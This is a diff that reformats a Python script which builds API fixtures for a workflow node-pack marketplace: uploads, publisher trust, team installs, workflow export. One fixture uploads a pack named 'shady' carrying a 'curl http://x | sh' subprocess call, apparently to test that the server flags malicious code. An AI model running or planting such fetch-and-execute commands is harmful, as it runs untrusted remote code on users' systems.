@@ -56,7 +56,9 @@ def make_pack(name: str, publisher: str, version: str, extra: str = "", readme: 
 
 def upload(s: requests.Session, archive: Path) -> requests.Response:
     with archive.open("rb") as handle:
-        return s.post(BASE + "/api/packs/upload", files={"archive": (archive.name, handle, "application/zip")})
+        return s.post(
+            BASE + "/api/packs/upload", files={"archive": (archive.name, handle, "application/zip")}
+        )
 
 
 admin = session("admin")  # the first user of a fresh installation is a site admin
@@ -77,7 +79,15 @@ fixtures["approved"] = r.json()
 admin.patch(BASE + "/api/publishers/alice", json={"trusted": True}).raise_for_status()
 r = upload(alice, make_pack("vignette", "alice", "0.2.0", readme=readme))
 fixtures["upload_active"] = {"status": r.status_code, "body": r.json()}
-r = upload(alice, make_pack("shady", "alice", "0.1.0", extra="\nimport subprocess\nsubprocess.run('curl http://x | sh', shell=True)\n"))
+r = upload(
+    alice,
+    make_pack(
+        "shady",
+        "alice",
+        "0.1.0",
+        extra="\nimport subprocess\nsubprocess.run('curl http://x | sh', shell=True)\n",
+    ),
+)
 fixtures["upload_flagged"] = {"status": r.status_code, "body": r.json()}
 flagged_id = r.json()["version"]["id"]
 
@@ -107,34 +117,82 @@ fixtures["publisher"] = bob.get(BASE + "/api/publishers/alice").json()
 fixtures["publishers_mine"] = alice.get(BASE + "/api/publishers").json()
 
 team = bob.post(BASE + "/api/teams", json={"name": f"Studio {stamp}"}).json()
-bob.post(BASE + f"/api/teams/{team['id']}/members", json={"username": "alice", "role": "runner"}).raise_for_status()
+bob.post(
+    BASE + f"/api/teams/{team['id']}/members", json={"username": "alice", "role": "runner"}
+).raise_for_status()
 r = bob.post(BASE + f"/api/workspaces/{team['id']}/packs", json={"pack": "vignette", "version": "0.1.0"})
 fixtures["install_created"] = {"status": r.status_code, "body": r.json()}
 r = alice.post(BASE + f"/api/workspaces/{team['id']}/packs", json={"pack": "vignette"})
 fixtures["install_forbidden"] = {"status": r.status_code, "body": r.json()}
 fixtures["workspace_packs"] = bob.get(BASE + f"/api/workspaces/{team['id']}/packs").json()
-admin.post(BASE + f"/api/packs/versions/{fixtures['upload_active']['body']['version']['id']}/deprecate", json={"message": "Use 0.3"})
+admin.post(
+    BASE + f"/api/packs/versions/{fixtures['upload_active']['body']['version']['id']}/deprecate",
+    json={"message": "Use 0.3"},
+)
 
-graph = {"nodes": {"1": {"type": "vignette.Example", "inputs": {"text": "hi", "times": 2}},
-                   "2": {"type": "PreviewAny", "inputs": {"source": ["1", 0]}}}}
-wf = bob.post(BASE + "/api/workflows", json={"workspace": team["id"], "name": "Uses vignette", "graph": graph}).json()
+graph = {
+    "nodes": {
+        "1": {"type": "vignette.Example", "inputs": {"text": "hi", "times": 2}},
+        "2": {"type": "PreviewAny", "inputs": {"source": ["1", 0]}},
+    }
+}
+wf = bob.post(
+    BASE + "/api/workflows", json={"workspace": team["id"], "name": "Uses vignette", "graph": graph}
+).json()
 bob.delete(BASE + f"/api/workspaces/{team['id']}/packs/vignette")
 fixtures["workflow_missing_packs"] = bob.get(BASE + f"/api/workflows/{wf['id']}").json()
 fixtures["export_comfy"] = bob.get(BASE + f"/api/workflows/{wf['id']}/export/comfy").json()
 
 comfy_ui = {
-    "last_node_id": 5, "last_link_id": 2,
+    "last_node_id": 5,
+    "last_link_id": 2,
     "nodes": [
-        {"id": 1, "type": "PrimitiveNode", "pos": [0, 0], "size": [200, 80], "outputs": [{"name": "STRING", "type": "STRING", "links": [1]}],
-         "widgets_values": ["hello"], "mode": 0, "title": "Text"},
-        {"id": 2, "type": "PreviewAny", "pos": [300, 0], "size": [200, 80], "inputs": [{"name": "source", "type": "*", "link": 1}],
-         "widgets_values": [], "mode": 0},
-        {"id": 3, "type": "KSamplerAdvancedFancy", "pos": [0, 200], "size": [300, 200],
-         "inputs": [{"name": "model", "type": "MODEL", "link": None}], "outputs": [{"name": "LATENT", "type": "LATENT", "links": [2]}],
-         "widgets_values": [42, "randomize", 20], "mode": 0},
-        {"id": 4, "type": "Note", "pos": [600, 0], "size": [200, 80], "widgets_values": ["Remember to set the seed"], "mode": 0},
-        {"id": 5, "type": "PreviewAny", "pos": [400, 200], "size": [200, 80], "inputs": [{"name": "source", "type": "*", "link": 2}],
-         "widgets_values": [], "mode": 4},
+        {
+            "id": 1,
+            "type": "PrimitiveNode",
+            "pos": [0, 0],
+            "size": [200, 80],
+            "outputs": [{"name": "STRING", "type": "STRING", "links": [1]}],
+            "widgets_values": ["hello"],
+            "mode": 0,
+            "title": "Text",
+        },
+        {
+            "id": 2,
+            "type": "PreviewAny",
+            "pos": [300, 0],
+            "size": [200, 80],
+            "inputs": [{"name": "source", "type": "*", "link": 1}],
+            "widgets_values": [],
+            "mode": 0,
+        },
+        {
+            "id": 3,
+            "type": "KSamplerAdvancedFancy",
+            "pos": [0, 200],
+            "size": [300, 200],
+            "inputs": [{"name": "model", "type": "MODEL", "link": None}],
+            "outputs": [{"name": "LATENT", "type": "LATENT", "links": [2]}],
+            "widgets_values": [42, "randomize", 20],
+            "mode": 0,
+        },
+        {
+            "id": 4,
+            "type": "Note",
+            "pos": [600, 0],
+            "size": [200, 80],
+            "widgets_values": ["Remember to set the seed"],
+            "mode": 0,
+        },
+        {
+            "id": 5,
+            "type": "PreviewAny",
+            "pos": [400, 200],
+            "size": [200, 80],
+            "inputs": [{"name": "source", "type": "*", "link": 2}],
+            "widgets_values": [],
+            "mode": 4,
+        },
     ],
     "links": [[1, 1, 0, 2, 0, "STRING"], [2, 3, 0, 5, 0, "LATENT"]],
     "groups": [{"title": "Group A", "bounding": [-20, -40, 560, 160], "color": "#3f789e"}],
@@ -151,5 +209,12 @@ fixtures["workers_admin"] = admin.get(BASE + "/api/workers").json()
 fixtures["models"] = bob.get(BASE + "/api/models").json()
 fixtures["me_admin"] = admin.get(BASE + "/api/auth/me").json()
 
-json.dump(fixtures, open(OUT, "w"), indent=1, sort_keys=True)
-print("ok", {k: (v.get("status") if isinstance(v, dict) and "status" in v else type(v).__name__) for k, v in fixtures.items()})
+with open(OUT, "w") as out:
+    json.dump(fixtures, out, indent=1, sort_keys=True)
+print(
+    "ok",
+    {
+        k: (v.get("status") if isinstance(v, dict) and "status" in v else type(v).__name__)
+        for k, v in fixtures.items()
+    },
+)
